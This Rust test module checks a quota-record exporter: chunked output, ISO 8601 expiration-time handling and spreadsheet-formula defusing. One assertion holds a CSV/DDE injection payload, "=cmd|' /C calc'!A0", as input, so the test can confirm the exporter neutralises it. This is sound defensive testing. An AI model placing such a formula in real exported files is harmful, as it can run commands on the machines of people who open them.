                (&json, json_parts),
            ] {
                let mut parts: Vec<Vec<u8>> = Vec::new();
                write(&x, per_part, &mut |p| parts.push(p.to_vec()));
                assert!(
                    parts.len() >= 23 / per_part,
                    "{per_part} rows a part: {} parts",
                    parts.len()
                );
                assert!(parts.iter().all(|p| std::str::from_utf8(p).is_ok()));
                assert_eq!(parts.concat(), whole.as_bytes(), "{per_part} rows a part");
            }
        }
        Ok(())
    }

    /// A time as received, in Unix milliseconds, when readable.
    fn time_ms(text: &str) -> Option<i64> {
        koodrive_core::parse_iso8601(text)
            .and_then(|dt| i64::try_from(dt.unix_timestamp_nanos() / 1_000_000).ok())
    }

    /// How a record's time given as `text` is exported.
    fn exported_time(text: &str) -> String {
        let mut record = UserSpaceQuota::new("1", 1, 0.0);
        record.expiration_time = Some(text.into());
        let rows: Rows = [record].into_iter().collect();
        export_time(rows.at(0), Time::Expires).to_string()
    }

    #[test]
    fn times_already_written_as_exported_go_out_as_they_came() {
        for text in [
            "2025-12-12T08:37:14.613Z",
            "2024-02-29T23:59:59.999Z",
            "0001-01-01T00:00:00.000Z",
            "1969-12-31T23:59:59.999Z",
            "9999-12-31T23:59:59.999Z",
            // Not times: exported as received, by either way.
            "2025-02-29T00:00:00.000Z",
            "2025-13-01T00:00:00.000Z",
            "2025-12-12T24:00:00.000Z",
            "2025-12-12T08:61:00.000Z",
        ] {
            assert!(written_as_exported(text), "{text}");
            let parsed = time_ms(text).map_or_else(|| text.to_owned(), iso_utc);
            assert_eq!(exported_time(text), parsed, "{text}");
            assert_eq!(parsed, text);
        }
        // A leap second reads as the instant before; other forms are parsed.
        for (text, exported) in [
            ("2016-12-31T23:59:60.000Z", "2016-12-31T23:59:59.999Z"),
            ("2025-12-12T16:37:14.613+08:00", "2025-12-12T08:37:14.613Z"),
            ("2025-12-12T08:37:14Z", "2025-12-12T08:37:14.000Z"),
            ("2025-12-12t08:37:14.613z", "2025-12-12T08:37:14.613Z"),
            ("yesterday", "yesterday"),
        ] {
            assert!(!written_as_exported(text), "{text}");
            assert_eq!(exported_time(text), exported, "{text}");
        }
    }

    #[test]
    fn formulas_are_defused_and_other_cells_kept() {
        assert_eq!(defused("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
        assert_eq!(defused("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(defused("Lovelace, Ada"), "Lovelace, Ada");
        assert_eq!(defused(""), "");
    }
}
